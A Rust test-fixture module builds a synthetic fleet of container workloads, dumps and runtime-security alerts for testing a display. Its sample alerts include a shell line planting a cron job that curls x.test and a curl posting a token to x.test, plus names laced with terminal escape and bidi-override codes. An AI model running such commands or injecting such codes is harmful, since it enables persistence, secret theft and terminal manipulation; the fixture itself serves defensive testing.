//! A small fleet for tests of what is shown, made without any file.

use std::collections::BTreeMap;
use std::sync::Arc;

use super::view::{FileProblem, FleetView, Severity, SurveyProgress, Workload, short_names, versions_of};
use crate::learning::{IdentityKey, Observed, Survey};
use crate::model::{
    self, Access, ArenaBuilder, Deed, Event, Facet, FileId, Header, Link, NodeFlags, Recording,
    RecordingKind, Signal, SignalKind, Tag, UnixNanos,
};
use crate::signals::{Placement, Signals, Unplaced};

/// The time of day in tests that look at the sample: 2026-11-24T03:02:18Z.
pub(crate) const NOW: u64 = 1_795_489_338_120_229_853;

const HOUR: u64 = 3_600 * 1_000_000_000;

/// Some dumps of one version: instances, each on a host of its own, and the hours since they ended.
struct Dumps {
    workload: &'static str,
    version: &'static str,
    team: &'static str,
    env: &'static str,
    instances: u64,
    hours_ago: u64,
    /// How many nodes of which facet, all below one process.
    nodes: &'static [(Facet, usize)],
}

const FLEET: &[Dumps] = &[
    Dumps {
        workload: "registry.lab/shop/api",
        version: "v2.0.0",
        team: "shop",
        env: "prod",
        instances: 2,
        hours_ago: 120,
        nodes: &[(Facet::Process, 7), (Facet::File, 41), (Facet::Dns, 3)],
    },
    Dumps {
        workload: "registry.lab/shop/api",
        version: "v2.1.0",
        team: "shop",
        env: "prod",
        instances: 5,
        hours_ago: 1,
        nodes: &[(Facet::Process, 9), (Facet::File, 44), (Facet::Dns, 4), (Facet::Bind, 1)],
    },
    Dumps {
        workload: "registry.lab/shop/database",
        version: "15.2",
        team: "shop",
        env: "prod",
        instances: 3,
        hours_ago: 2,
        nodes: &[(Facet::Process, 5), (Facet::File, 1203)],
    },
    Dumps {
        workload: "registry.lab/platform/backup",
        version: "v0.3.0",
        team: "platform",
        env: "staging",
        instances: 1,
        hours_ago: 9,
        nodes: &[(Facet::Process, 4), (Facet::Syscall, 18), (Facet::Capability, 2), (Facet::Imds, 1)],
    },
    Dumps {
        workload: "registry.lab/edge/web",
        version: "v1.3.0",
        team: "edge",
        env: "prod",
        instances: 2,
        hours_ago: 30,
        nodes: &[(Facet::Process, 2), (Facet::File, 12), (Facet::Dns, 1)],
    },
    Dumps {
        workload: "evil\u{1b}[31m\u{202e}name",
        version: "1\u{7}",
        team: "edge",
        env: "a b",
        instances: 1,
        hours_ago: 700,
        nodes: &[(Facet::Process, 1)],
    },
];

/// The sample: some workloads of three teams, one with names that would command a terminal, and some bad files.
pub(crate) fn fleet() -> FleetView {
    let mut names: Vec<&str> = FLEET.iter().map(|dumps| dumps.workload).collect();
    names.sort_unstable();
    names.dedup();
    let shorts = short_names(&names).into_iter().map(str::to_owned);
    let problems = problems();
    let workloads = names.iter().zip(shorts).map(|(name, short)| Arc::new(workload(name, short, &problems)));
    FleetView {
        decided: Arc::default(),
        workloads: workloads.collect(),
        progress: SurveyProgress {
            found: 18,
            read: 18,
            listed: true,
            finished: true,
            ..SurveyProgress::default()
        },
        problems: Arc::new(problems),
        signals: Arc::new(signals()),
        remote: Arc::default(),
    }
}

/// What a signal of the sample is about.
struct Raised {
    id: &'static str,
    rule: &'static str,
    title: &'static str,
    severity: Option<model::Severity>,
    workload: Option<&'static str>,
    version: &'static str,
    instance: &'static str,
    minutes_ago: u64,
    count: u64,
    /// Processes from the root, each as `path|argument|…`.
    lineage: &'static [&'static str],
    /// Facet, operation, name.
    deed: (Option<Facet>, &'static str, &'static str),
}

const API: &str = "registry.lab/shop/api";
const CRON: (Option<Facet>, &str, &str) = (Some(Facet::File), "open", "/etc/cron.d/refresh");
const SHELL: &[&str] = &[
    "/usr/bin/init",
    "/usr/bin/gunicorn",
    "/usr/bin/dash|-c|echo \"* * * * * curl x.test\" > /etc/cron.d/refresh",
];

const RAISED: &[Raised] = &[
    Raised {
        id: "AwAAAZ-cron",
        rule: "cron_at_job_creation",
        title: "Cron job was added",
        severity: Some(model::Severity::High),
        workload: Some(API),
        version: "v2.1.0",
        instance: "shop-v2.1.0-4",
        minutes_ago: 50,
        count: 1,
        lineage: SHELL,
        deed: CRON,
    },
    Raised {
        id: "AwAAAZ-curl",
        rule: "net_util_in_container",
        title: "Network utility was run",
        severity: Some(model::Severity::Medium),
        workload: Some(API),
        version: "v2.1.0",
        instance: "shop-v2.1.0-4",
        minutes_ago: 49,
        count: 3,
        lineage: &[
            "/usr/bin/init",
            "/usr/bin/gunicorn",
            "/usr/bin/dash",
            "/usr/bin/curl|-d|token=geheim|https://x.test",
        ],
        deed: (Some(Facet::Process), "exec", "/usr/bin/curl"),
    },
    Raised {
        id: "evil\u{1b}[2J\u{202e}id",
        rule: "rule\u{1b}]0;x\u{7}",
        title: "title\u{1b}[31m",
        severity: None,
        workload: Some("evil\u{1b}[31m\u{202e}name"),
        version: "1\u{7}",
        instance: "edge-1\u{7}-0",
        minutes_ago: 700 * 60,
        count: 2,
        lineage: &["/bin/\u{1b}[2J\u{202e}sh"],
        deed: (Some(Facet::Dns), "dns", "x\u{1b}[2J.test"),
    },
    Raised {
        id: "AwAAAZ-host",
        rule: "kernel_module_load",
        title: "Kernel module was loaded",
        severity: Some(model::Severity::Critical),
        workload: None,
        version: "",
        instance: "",
        minutes_ago: 200,
        count: 1,
        lineage: &["/usr/bin/kmod"],
        deed: (None, "load_module", "nf_tables"),
    },
];

/// How often the probe of the sample raised its rule, once an hour in one of five instances.
const PROBES: u64 = 40;

/// The signals of the sample: an incident, what a probe raises every hour, one that would command a terminal, one
/// that belongs to no workload.
fn signals() -> Signals {
    let mut all: Vec<(Signal, Placement)> = RAISED.iter().map(signal).collect();
    for hour in 0..PROBES {
        let probe = Raised {
            id: "",
            rule: "shell_in_container",
            title: "Shell was run",
            severity: Some(model::Severity::Low),
            workload: Some(API),
            version: "v2.1.0",
            instance: "",
            minutes_ago: 60 * hour + 7,
            count: 12,
            lineage: &["/usr/bin/init", "/usr/bin/dash|-c|df -h"],
            deed: (Some(Facet::Process), "exec", "/usr/bin/dash"),
        };
        let (mut signal, mut placement) = signal(&probe);
        signal.id = format!("AwAAAZ-probe-{hour:02}");
        placement.instance = Some(format!("shop-v2.1.0-{}", hour % 5));
        all.push((signal, placement));
    }
    Signals::of(all)
}

fn signal(raised: &Raised) -> (Signal, Placement) {
    let time = Some(UnixNanos(NOW - raised.minutes_ago * 60 * 1_000_000_000));
    let known = |text: &str| (!text.is_empty()).then(|| text.to_owned());
    let link = |line: &&str| {
        let (path, args) = line.split_once('|').unwrap_or((line, ""));
        Link {
            executable: path.to_owned(),
            args: Some(args.split('|').filter(|arg| !arg.is_empty()).map(str::to_owned).collect()),
            ..Link::default()
        }
    };
    let (facet, operation, name) = raised.deed;
    let event = Event {
        time,
        rule: raised.rule.to_owned(),
        lineage: raised.lineage.iter().map(link).collect(),
        deed: Deed {
            facet,
            operation: operation.to_owned(),
            name: name.to_owned(),
            access: if facet == Some(Facet::File) { Access::Write } else { Access::None },
            ..Deed::default()
        },
        ..Event::default()
    };
    let signal = Signal {
        id: raised.id.to_owned(),
        kind: SignalKind::Signal,
        rule: raised.rule.to_owned(),
        title: raised.title.to_owned(),
        severity: raised.severity,
        time,
        count: raised.count,
        events: vec![event],
        tags: [Tag::parse("source:runtime-security-agent")].into_iter().collect(),
        triage: "open".to_owned(),
        ..Signal::default()
    };
    let placement = Placement {
        workload: raised.workload.map(str::to_owned),
        version: known(raised.version),
        instance: known(raised.instance),
        host: known(if raised.workload.is_some() { "host-1" } else { "host-9" }),
        unplaced: raised.workload.is_none().then_some(Unplaced::OfTheHost),
        by: "by its tag image_name",
    };
    (signal, placement)
}

fn problems() -> Vec<FileProblem> {
    let problem = |file: &str, reason: &str, severity, workload: Option<&str>| FileProblem {
        file: file.to_owned(),
        reason: reason.to_owned(),
        severity,
        workload: workload.map(str::to_owned),
    };
    vec![
        problem(
            "dumps/edge/cut-short.protobuf",
            "cut short or damaged at byte 4,096 of 9,120: expected 17 more bytes of a process, found the end; what was \
             read before it counts",
            Severity::Partial,
            Some("registry.lab/edge/web"),
        ),
        problem("dumps/empty.profile", "is empty", Severity::Unread, None),
        problem(
            "dumps/n\u{1b}]0;x\u{7}ame.json",
            "not a security profile and no activity dump: begins with \\x7fELF",
            Severity::Unread,
            None,
        ),
    ]
}

fn workload(name: &str, short_name: String, problems: &[FileProblem]) -> Workload {
    let key = IdentityKey::random();
    let mut survey = Survey::default();
    let mut file_names = BTreeMap::new();
    for dumps in FLEET.iter().filter(|dumps| dumps.workload == name) {
        for instance in 0..dumps.instances {
            let number = file_names.len() as u32;
            let recording = recording(dumps, instance);
            let file = FileId(number);
            let observed = Observed::of(&recording, file, &format!("{name} {number}"), "");
            survey.add(&recording, &observed, key);
            file_names.insert(file, format!("dumps/{number}.protobuf"));
        }
    }
    let survey = survey.view();
    Workload {
        rules: Arc::default(),
        suggest: Arc::default(),
        curation: Arc::default(),
        name: name.to_owned(),
        short_name,
        versions: versions_of(&survey),
        files: file_names.values().cloned().collect(),
        file_names: Arc::new(file_names),
        problems: problems.iter().filter(|p| p.workload.as_deref() == Some(name)).cloned().collect(),
        revision: 1,
        local: true,
        backends: Vec::new(),
        survey,
    }
}

fn recording(dumps: &Dumps, instance: u64) -> Recording {
    let end = NOW - dumps.hours_ago * HOUR;
    let mut builder = ArenaBuilder::default();
    let node = |builder: &mut ArenaBuilder, facet: Facet, name: &str| {
        let id = builder.open(facet);
        builder.set_name(id, name);
        builder.add_flags(id, NodeFlags::COUNTED);
        builder.seen(id, end - HOUR, end);
    };
    node(&mut builder, Facet::Process, "/usr/bin/init");
    for (facet, count) in dumps.nodes {
        let below = if *facet == Facet::Process { 1 } else { 0 };
        for number in below..*count {
            node(&mut builder, *facet, &format!("/n{number}"));
            builder.close();
        }
    }
    let tree = builder.finish();
    let mut header = Header::new(RecordingKind::Dump);
    let container = format!("{}-{}-{instance}", dumps.team, dumps.version);
    header.metadata.name = format!("dump-{container}");
    header.metadata.container_id = container;
    header.metadata.start = Some(UnixNanos(end - HOUR));
    header.metadata.end = Some(UnixNanos(end));
    header.host = format!("host-{}", instance % 3);
    header.tags = [
        format!("image_name:{}", dumps.workload),
        format!("image_tag:{}", dumps.version),
        format!("team:{}", dumps.team),
        format!("env:{}", dumps.env),
    ]
    .iter()
    .map(|tag| Tag::parse(tag))
    .collect();
    Recording::made(header, tree)
}
